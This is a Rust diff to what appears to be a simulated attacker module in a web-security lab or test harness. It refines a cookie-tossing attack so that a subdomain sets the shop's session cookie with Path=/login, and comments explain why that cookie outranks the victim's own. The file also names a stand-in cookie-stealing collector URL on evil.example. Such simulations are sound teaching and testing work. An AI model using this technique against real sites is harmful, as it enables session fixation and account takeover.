@@ -31,6 +31,9 @@ pub const SIBLING_HOST: &str = "blog.shop.example";
 pub const COLLECTOR_URL: &str = "https://evil.example/steal";
 /// The CSRF page.
 pub const PRIZE_URL: &str = "https://evil.example/prize";
+/// The path the tossed cookie is set for: the login form's, so that it
+/// goes first exactly where the victim logs in.
+pub const TOSS_PATH: &str = "/login";
 /// The cookie-tossing page.
 pub const TOSS_URL: &str = "http://blog.shop.example/welcome";
 
@@ -42,7 +45,10 @@ pub enum EvilPage {
     CsrfTransfer { to: String, amount: u64 },
     /// `http://blog.shop.example/welcome`: a page on a subdomain of the
     /// shop's host whose response sets the shop's session cookie for
-    /// `Domain=shop.example`.
+    /// `Domain=shop.example` and `Path=/login`. The longer path is what
+    /// makes the tossed cookie win over the victim's own (host-only,
+    /// `Path=/`): browsers list cookies with longer paths first in the
+    /// `Cookie` header (RFC 6265bis §5.8.3), and a server takes the first.
     CookieToss { planted_id: String },
 }
 
@@ -361,7 +367,7 @@ impl Attacker {
             )
             .with_header(
                 "Set-Cookie",
-                &format!("{session_cookie}={planted_id}; Domain=shop.example; Path=/"),
+                &format!("{session_cookie}={planted_id}; Domain=shop.example; Path={TOSS_PATH}"),
             ),
             None => {
                 let mut r = HttpResponse::new(StatusCode::NotFound);
